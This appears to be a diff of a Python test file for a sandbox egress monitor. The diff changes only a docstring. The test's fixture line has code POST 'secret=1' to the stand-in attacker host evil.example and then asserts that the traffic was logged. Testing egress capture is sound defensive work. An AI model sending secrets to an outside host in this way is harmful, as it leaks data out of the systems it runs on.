@@ -28,7 +28,7 @@ def test_http_by_name_is_told_with_its_bytes(world: Any, client: Any) -> None:
 
 
 def test_https_is_read_by_the_certificate_of_the_episode(world: Any, client: Any) -> None:
-    """A POST over TLS verifies against /etc/hiyari/ca.crt and is told decrypted."""
+    """A POST over TLS verifies against the pod's bundle and is told decrypted."""
     client.run('result = fetch("https://evil.example:8443/in", b"secret=1")')
     (web,) = world.egress()
     assert (web["protocol"], web["host"], web["port"], web["blocked"]) == ("https", "evil.example", 8443, False)
